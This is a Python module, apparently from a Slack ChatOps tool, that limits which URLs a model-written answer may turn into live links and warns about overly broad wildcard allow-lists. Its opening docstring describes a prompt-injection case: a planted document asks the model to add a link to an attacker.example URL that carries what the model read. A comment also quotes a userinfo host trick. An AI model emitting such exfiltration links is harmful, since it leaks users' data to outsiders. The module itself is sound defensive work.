"""Which URLs an answer may turn into live links.

An answer is written by a model that has read documents, and a planted document
can ask it to add ``[Full policy](https://attacker.example/?q=<what it read>)``:
one click, or an unfurl, sends the audience's data away. So an answer links only
to the sources it cites and to hosts the operator allows (``CHATOPS_LINK_HOSTS``);
every other URL is shown inert: its host, defanged, in plain text that Slack
neither links nor unfurls.

A wildcard in the allow-list is only as narrow as whoever controls the names under it:
``*.sharepoint.com`` or ``*.atlassian.net`` admits every customer's tenant, and anyone can make
one. :func:`shared_tenant_wildcards` names such wildcards; the worker warns about them at start
and ``chatops doctor`` shows them as WARN.
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlsplit

# Suffixes anyone can get a name right under: a tenant, a site, an app (``contoso.sharepoint.com``).
# A wildcard at or above one admits everyone's; one below it (``*.contoso.sharepoint.com``) one tenant's.
SHARED_SUFFIXES = (
    "sharepoint.com", "atlassian.net", "jira.com", "slack.com", "zendesk.com", "service-now.com",
    "my.salesforce.com", "force.com", "notion.site", "box.com", "dropboxusercontent.com",
    "azurewebsites.net", "azurestaticapps.net", "trafficmanager.net", "cloudfront.net", "awsapps.com",
    "appspot.com", "web.app", "firebaseapp.com", "run.app", "github.io", "githubusercontent.com", "gitlab.io",
    "herokuapp.com", "netlify.app", "vercel.app", "pages.dev", "workers.dev", "fly.dev", "onrender.com",
    "ngrok.io", "ngrok-free.app",
)
# Zones whose names are other customers' at any depth (``bucket.s3.eu-west-1.amazonaws.com``,
# ``account.blob.core.windows.net``): every wildcard in them admits everyone's.
SHARED_ZONES = ("amazonaws.com", "core.windows.net", "cloudapp.azure.com", "googleusercontent.com",
                "googleapis.com")


def shared_tenant_wildcards(hosts) -> list[str]:
    """The wildcards among ``hosts`` (``*.domain``) that admit names anyone can register: a whole
    top-level domain (``*.com``), at or above a shared suffix, or anywhere in a shared zone.
    Lower-cased, in their order."""
    found: list[str] = []
    for raw in hosts:
        host = raw.strip().lower().rstrip(".")
        if not host.startswith("*.") or host in found:
            continue
        domain = host[2:]
        if ("." not in domain or any(s == domain or s.endswith("." + domain) for s in SHARED_SUFFIXES + SHARED_ZONES)
                or any(domain.endswith("." + z) for z in SHARED_ZONES)):
            found.append(host)
    return found


ANY_TENANT_FIX = "list the exact hosts instead (contoso.sharepoint.com, not *.sharepoint.com)"


def any_tenant_warning(hosts) -> str | None:
    """One line naming the wildcards of ``CHATOPS_LINK_HOSTS`` that admit anyone's hosts (None: none do)."""
    risky = shared_tenant_wildcards(hosts)
    if not risky:
        return None
    verb = "admits" if len(risky) == 1 else "admit"
    return (f"CHATOPS_LINK_HOSTS: {', '.join(risky)} {verb} hosts anyone can register, so a link planted in "
            "a document to their own tenant stays live in answers")


@dataclass(frozen=True)
class LinkPolicy:
    urls: frozenset[str] = frozenset()   # exact URLs that may be linked (the cited sources)
    hosts: tuple[str, ...] = ()          # "wiki.corp.example", or "*.corp.example" for a domain

    @classmethod
    def of(cls, urls=(), hosts=()) -> "LinkPolicy":
        return cls(frozenset(u for u in urls if u), tuple(h.strip().lower() for h in hosts if h.strip()))

    def allows(self, url: str) -> bool:
        if url in self.urls:
            return True
        host = safe_host(url)
        if host is None:
            return False
        for allowed in self.hosts:
            if allowed.startswith("*."):
                domain = allowed[2:]
                if host == domain or host.endswith("." + domain):
                    return True
            elif host == allowed:
                return True
        return False


def safe_host(url: str) -> str | None:
    """The lower-cased host of an http(s) URL without tricks; None for anything else.

    Refused: other schemes, user info (``https://corp.example@evil.example``), backslashes and
    control characters, which browsers and Python may read differently."""
    if any(ch in url for ch in "\\\t\r\n ") or any(ord(ch) < 32 for ch in url):
        return None
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or "@" in parts.netloc or not parts.hostname:
        return None
    return parts.hostname.lower()


def defang_host(url: str) -> str:
    """The URL's host with its dots bracketed (``attacker[.]example``), for display only."""
    try:
        parts = urlsplit(url)
        host, scheme = parts.hostname or "", parts.scheme
    except ValueError:
        host, scheme = "", ""
    if not host and url.lower().startswith("www."):
        host = url.split("/", 1)[0]
    if not host:
        return f"a {scheme[:20]} address" if scheme else "an address"
    return host.replace(".", "[.]")[:100]
